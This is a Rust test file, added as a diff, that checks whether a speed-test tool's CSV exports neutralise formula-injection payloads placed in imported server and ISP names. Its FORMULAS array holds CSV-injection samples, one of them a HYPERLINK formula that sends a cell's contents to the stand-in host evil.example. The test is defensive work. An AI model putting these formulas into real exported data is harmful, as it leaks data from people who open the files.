@@ -1,0 +1,102 @@
+//! Hostile text and figures from outside — server and ISP names, the CLI's message, imported
+//! files — never turn into spreadsheet formulas, forged log lines or impossible published
+//! figures.
+
+mod common;
+
+use common::{Env, Server};
+use serde_json::{Value, json};
+
+/// Cells a spreadsheet would run as formulas (OWASP CSV Injection).
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for a faster line\")",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\u{FF1D}1+1",
+];
+
+fn sample(time: &str, name: &str) -> Value {
+    json!({
+        "time": time, "outcome": "success", "reason": null, "message": null, "trigger": "schedule",
+        "duration_seconds": 20.5, "download_bytes_per_second": 1e6,
+        "upload_bytes_per_second": 2e6, "ping_seconds": 0.0125, "jitter_seconds": 0.0005,
+        "packet_loss_ratio": 0.015, "download_latency_seconds": null, "upload_latency_seconds": null,
+        "downloaded_bytes": 1000, "uploaded_bytes": 500,
+        "server": {"id": 7, "name": name, "location": name, "country": "There", "host": "st.example.net"},
+        "isp": name, "result_url": null
+    })
+}
+
+fn hostile_history() -> Vec<Value> {
+    FORMULAS
+        .iter()
+        .enumerate()
+        .map(|(minute, name)| sample(&format!("2026-11-01T00:0{minute}:00.000Z"), name))
+        .collect()
+}
+
+/// Every cell of a CSV document, as a spreadsheet importing RFC 4180 reads them.
+fn cells(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|record| {
+            record
+                .expect("valid CSV")
+                .iter()
+                .map(str::to_owned)
+                .collect()
+        })
+        .collect()
+}
+
+/// No cell starts like a formula; the hostile names are there, each behind a single quote.
+fn assert_neutralised(csv: &str) {
+    let rows = cells(csv);
+    assert_eq!(rows.len(), 1 + FORMULAS.len(), "{csv}");
+    let header = &rows[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    for row in &rows[1..] {
+        assert_eq!(row.len(), header.len());
+        for name in ["server_name", "server_location", "isp"] {
+            let cell = &row[column(name)];
+            assert!(
+                cell.starts_with('\'') && FORMULAS.contains(&&cell[1..]),
+                "{name}: {cell:?}"
+            );
+        }
+        assert_eq!(
+            row[column("download_bytes_per_second")],
+            "1000000",
+            "numbers stay numbers"
+        );
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}']),
+                "a formula: {cell:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn server_and_isp_names_cannot_become_formulas_in_either_csv() {
+    let env = Env::new();
+    env.import(&hostile_history());
+    let db = env.db();
+    let export = common::command(&["export", "--db", db.to_str().unwrap(), "--format", "csv"])
+        .output()
+        .unwrap();
+    assert_eq!(export.status.code(), Some(0));
+    assert_neutralised(&String::from_utf8(export.stdout).unwrap());
+    let server = Server::start(env.serve("ok-1.2-pretty", "replay", &["--start-delay", "1h"]));
+    let response = server.get("/api/v1/samples.csv");
+    assert_eq!(response.status, 200);
+    assert_neutralised(&response.body);
+    // The JSON history is data, not a spreadsheet: it keeps the names exactly.
+    let page = server.get("/api/v1/samples").json();
+    assert_eq!(page["samples"][0]["isp"], FORMULAS[5]);
+}
